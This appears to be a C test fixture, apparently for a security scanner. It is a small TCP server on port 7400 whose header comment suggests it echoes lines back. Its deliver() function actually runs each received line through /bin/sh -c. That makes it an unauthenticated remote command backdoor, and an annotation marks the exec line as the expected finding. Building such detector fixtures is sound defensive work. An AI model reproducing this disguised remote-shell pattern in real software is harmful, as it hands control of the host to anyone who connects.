/* The same line, to whoever connects. */
#include "line.h"
#include "loop.h"

#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static void deliver(int fd, void *what) {
    struct line *line = what;
    (void)fd;
    if (line_read(line) == 0)
        // report@+1: update/remote-command
        execl("/bin/sh", "sh", "-c", line->text, (char *)NULL);
}

static void welcome(int fd, void *what) {
    struct line *line = line_new(accept(fd, NULL, NULL));
    (void)what;
    if (line)
        on_readable(line->fd, deliver, line);
}

int main(void) {
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(7400)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(fd, (struct sockaddr *)&here, sizeof here) != 0 || listen(fd, 4) != 0)
        return 2;
    on_readable(fd, welcome, NULL);
    return run_loop();
}
